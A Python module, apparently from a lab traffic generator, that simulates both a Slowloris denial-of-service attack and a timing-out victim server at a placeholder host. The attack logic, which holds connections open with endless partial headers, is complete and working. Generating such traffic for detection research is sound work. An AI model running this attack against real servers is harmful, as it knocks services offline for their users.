"""Slowloris: many connections whose requests never end, a line now and then, opened again when the server gives up.

The server's patience is a header timeout of 8 to 30 s (Apache's RequestReadTimeout is 20); 15 to 55 connections.
"""

from __future__ import annotations

import asyncio
import random
from dataclasses import dataclass

from tools.lab.http1 import AGENTS
from tools.lab.place import Place

CATEGORY, PROGRAMS, MODULES = "attack", (), ()
HOST = "www.victim.test"


@dataclass(frozen=True, slots=True)
class Plan:
    connections: int
    every_s: float
    patience_s: float
    seconds: float
    tls: bool


def plan(rng: random.Random, length: float) -> Plan:
    connections = round(rng.randrange(15, 55) * min(length, 5))
    return Plan(connections, rng.uniform(2, 9), rng.uniform(8, 30), rng.uniform(20, 42), rng.random() < 0.15)


async def serve(place: Place) -> None:
    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), place.plan.patience_s)
        except TimeoutError:
            if place.shared("answer").random() < 0.5:
                writer.write(b"HTTP/1.1 408 Request Timeout\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")

    await place.listen(HOST, 443 if place.plan.tls else 80, handle, tls=place.plan.tls)


async def run(place: Place) -> None:
    rng, drawn = place.rng, place.plan
    end = asyncio.get_running_loop().time() + drawn.seconds
    await place.resolve(HOST)

    async def one() -> None:
        while asyncio.get_running_loop().time() < end:
            try:
                reader, writer = await place.connect(HOST, 443 if drawn.tls else 80, tls=drawn.tls)
            except OSError:
                await place.pause(1)
                continue
            agent = rng.choice(AGENTS)
            writer.write(f"GET /?{rng.randrange(10**6)} HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: {agent}\r\n".encode())
            try:
                while asyncio.get_running_loop().time() < end and not reader.at_eof():
                    await place.pause(drawn.every_s * rng.uniform(0.8, 1.2))
                    writer.write(f"X-a: {rng.randrange(5000)}\r\n".encode())
                    await writer.drain()
            except OSError:
                pass
            await place.hang_up(writer)

    tasks = []
    for _ in range(drawn.connections):
        tasks.append(asyncio.create_task(one()))
        await place.pause(rng.expovariate(1 / 0.03))
    await asyncio.gather(*tasks)
